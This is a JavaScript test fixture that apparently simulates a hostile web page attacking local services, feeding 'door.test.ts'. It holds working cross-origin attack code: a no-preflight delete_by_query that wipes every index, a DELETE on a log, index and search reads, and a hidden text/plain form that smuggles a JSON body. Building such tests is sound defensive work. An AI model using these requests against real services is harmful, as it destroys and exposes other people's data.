// What a hostile page does in the browser: the source of door.test.ts's evaluations.
/* global AbortSignal, document, fetch */

const everything = '{"query":{"match_all":{}}}';
const deletion = '/_all/_delete_by_query?conflicts=proceed&refresh';
const paths = ['/_search?q=*', '/_cat/indices', '/kafkainsight-local?list-type=2', '/'];

/** What could be read from another origin; what was written is checked afterwards. */
async function attack(address) {
  const read = [];
  const readable = async (path, options) => {
    const signal = AbortSignal.timeout(5000);
    const text = await fetch(address + path, { ...options, signal }).then(
      (response) => response.text(),
      () => '',
    );
    if (text !== '') read.push(`${path}: ${text.slice(0, 200)}`);
  };
  // "simple" requests (Fetch standard, CORS-safelisted): the browser sends them without a preflight
  const simple = { method: 'POST', headers: { 'content-type': 'text/plain' }, body: everything };
  await readable(deletion, { ...simple, mode: 'no-cors' });
  await readable(deletion, simple);
  await readable('/kafkainsight-local/inbox/door.log', { method: 'DELETE' });
  for (const path of paths) await readable(path, {});
  for (const path of paths) {
    await ended(Object.assign(document.createElement('img'), { src: address + path }));
    if (await ended(Object.assign(document.createElement('script'), { src: address + path })))
      read.push(`${path} as a script`);
  }
  await submit(address + deletion);
  return read;
}

/** A form of text whose one field's name and value make JSON around the equals sign. */
async function submit(action) {
  const frame = Object.assign(document.createElement('iframe'), { name: 'hidden' });
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', enctype: 'text/plain', target: 'hidden', action });
  form.append(
    Object.assign(document.createElement('input'), { name: `${everything.slice(0, -1)},"x":"`, value: '"}' }),
  );
  document.body.append(frame, form);
  const loaded = ended(frame);
  form.submit();
  await loaded;
  frame.remove();
  form.remove();
}

/** Whether an element has loaded what it names. */
function ended(element) {
  return new Promise((resolve) => {
    element.addEventListener('load', () => resolve(true));
    element.addEventListener('error', () => resolve(false));
    setTimeout(resolve, 3000, false);
    if (!element.isConnected) document.head.append(element);
  });
}

/** The statuses of a page's requests to its own origin. */
async function sameOrigin() {
  const json = { headers: { 'content-type': 'application/json' }, body: everything };
  const questions = [
    [deletion, { method: 'POST', ...json }],
    ['/_search?q=*', {}],
    ['/kafkainsight-local/inbox/door.log', { method: 'DELETE' }],
    ['/api/extent', { method: 'POST', ...json }],
  ];
  const statuses = [];
  for (const [path, options] of questions) {
    statuses.push(
      await fetch(path, options).then(
        ({ status }) => status,
        () => 403,
      ),
    );
  }
  return statuses;
}

Object.assign(globalThis, { attack, sameOrigin });
